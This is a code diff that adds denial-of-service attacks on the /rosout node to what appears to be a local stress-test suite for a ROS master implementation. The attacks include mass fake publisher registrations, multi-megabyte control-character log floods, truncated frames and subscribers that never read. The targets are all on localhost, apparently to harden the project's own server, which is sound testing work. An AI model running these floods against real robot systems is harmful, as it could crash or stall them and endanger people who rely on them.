@@ -8,8 +8,15 @@ import socket
 import threading
 import time
 from collections.abc import Callable
+from io import BytesIO
 from typing import Any
-from xmlrpc.client import dumps
+from xmlrpc.client import ServerProxy, dumps
+
+from rosgraph_msgs.msg import Log
+
+from minirospy.wire.framing import serialize_frame
+from minirospy.wire.header import serialize_header
+from minirospy.wire.tcpros import InterfaceType, publisher_header, subscriber_header
 
 MIB = 1024 * 1024
 HUGE = 60 * MIB
@@ -409,6 +416,134 @@ def many_values(target: Target) -> None:
         target.exchange(valued(b"x" * (8 * MIB), f"/attack/ever/{number}"))
 
 
+# --- attacks on the /rosout node of the master's process
+
+
+class FakePublisher:
+    """A Slave API and a TCPROS server that any number of nodes may be registered at: what connects is passed to ``serve``."""
+
+    def __init__(self, target: Target, type_: InterfaceType, serve: Callable[[socket.socket], None]) -> None:
+        self._target = target
+        self._serve = serve
+        self._head = serialize_header(publisher_header("/rosout", type_, "/bad", latch=False))
+        self._topics = self._listen(self._publish)
+        api = self._listen(self._answer)
+        self.port: int = api.getsockname()[1]
+
+    def register(self, count: int) -> None:
+        """Register publishers of /rosout, each with its own URI."""
+        for first in range(0, count, 1000):
+            calls = [
+                {
+                    "methodName": "registerPublisher",
+                    "params": [
+                        f"/bad{number}",
+                        "/rosout",
+                        "rosgraph_msgs/Log",
+                        f"http://127.0.0.1:{self.port}/{number}",
+                    ],
+                }
+                for number in range(first, min(count, first + 1000))
+            ]
+            self._target.exchange(called("system.multicall", calls))
+
+    def _listen(self, serve: Callable[[socket.socket], None]) -> socket.socket:
+        server = socket.create_server(("127.0.0.1", 0), backlog=4096)
+
+        def accept() -> None:
+            while not self._target.is_over:
+                with contextlib.suppress(OSError):
+                    threading.Thread(target=run, args=(server.accept()[0],), daemon=True).start()
+
+        def run(sock: socket.socket) -> None:
+            with contextlib.suppress(OSError), sock:
+                serve(sock)
+
+        threading.Thread(target=accept, daemon=True).start()
+        return server
+
+    def _answer(self, sock: socket.socket) -> None:
+        value = ([1, "", ["TCPROS", "127.0.0.1", self._topics.getsockname()[1]]],)
+        body = dumps(value, methodresponse=True).encode()
+        while sock.recv(65536):
+            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
+
+    def _publish(self, sock: socket.socket) -> None:
+        sock.recv(65536)
+        sock.sendall(self._head)
+        self._serve(sock)
+
+
+def log_lines(target: Target) -> None:
+    """20 publishers of /rosout that send short lines as fast as they are read."""
+    _attack_rosout(target, _log("x" * 20) * 1000, 20)
+
+
+def long_log_lines(target: Target) -> None:
+    """5 publishers of /rosout that send texts of 20 MiB of control characters, and 20 subscribers that read nothing."""
+    _attack_rosout(target, _log("\x1b" * (20 * MIB)), 5, readers=20)
+
+
+def unread_log_lines(target: Target) -> None:
+    """5 publishers of /rosout that send texts of 200 kB, and 200 subscribers that read nothing."""
+    _attack_rosout(target, _log("x" * 200_000), 5, readers=200)
+
+
+def half_log_lines(target: Target) -> None:
+    """300 publishers of /rosout that send the start of a text of 60 MiB and no more."""
+    _attack_rosout(target, _log("x" * HUGE)[: 5 * MIB], 300, repeats=False)
+
+
+def rosout_publishers(target: Target) -> None:
+    """9,000 publishers of /rosout at an address where nobody listens, which come and go."""
+    calls = [
+        {
+            "methodName": "registerPublisher",
+            "params": [f"/bad{n}", "/rosout", "rosgraph_msgs/Log", f"http://127.0.0.1:9/{n}"],
+        }
+        for n in range(9_000)
+    ]
+    for first in range(0, len(calls), 3_000):
+        target.exchange(called("system.multicall", calls[first : first + 3_000]))
+    target.wait(30.0)
+
+
+def _attack_rosout(
+    target: Target, data: bytes, count: int, *, readers: int = 0, repeats: bool = True
+) -> None:
+    def serve(sock: socket.socket) -> None:
+        sock.sendall(data)
+        while repeats and not target.is_over:
+            sock.sendall(data)
+        target.wait(60.0)
+
+    type_ = InterfaceType.of(Log)
+    FakePublisher(target, type_, serve).register(count)
+    with contextlib.ExitStack() as stack:
+        for _ in range(readers):
+            with contextlib.suppress(OSError):
+                _, port = _topics_of(target, "/rosout_agg")
+                sock = stack.enter_context(socket.create_connection(("127.0.0.1", port), 20))
+                sock.sendall(serialize_header(subscriber_header("/rosout_agg", type_, "/bad")))
+        target.wait(60.0)
+
+
+def _topics_of(target: Target, topic: str) -> tuple[str, int]:
+    """Return where the /rosout node publishes."""
+    with ServerProxy(f"http://127.0.0.1:{target.port}") as master:
+        uri = str(master.lookupNode("/bad", "/rosout")[2])  # type: ignore[index]
+    with ServerProxy(uri) as node:
+        _, host, port = node.requestTopic("/bad", topic, [["TCPROS"]])[2]  # type: ignore[index,misc]
+    return str(host), int(port)  # type: ignore[arg-type]
+
+
+def _log(text: str) -> bytes:
+    message = Log(level=Log.INFO, name="/bad", msg=text)
+    buffer = BytesIO()
+    message.serialize(buffer)
+    return serialize_frame(buffer.getvalue())
+
+
 ATTACKS: tuple[Callable[[Target], None], ...] = (
     huge_array_multicall,
     huge_string,
@@ -440,6 +575,11 @@ ATTACKS: tuple[Callable[[Target], None], ...] = (
     long_names,
     many_registrations,
     many_values,
+    log_lines,
+    long_log_lines,
+    unread_log_lines,
+    half_log_lines,
+    rosout_publishers,
 )
 
 
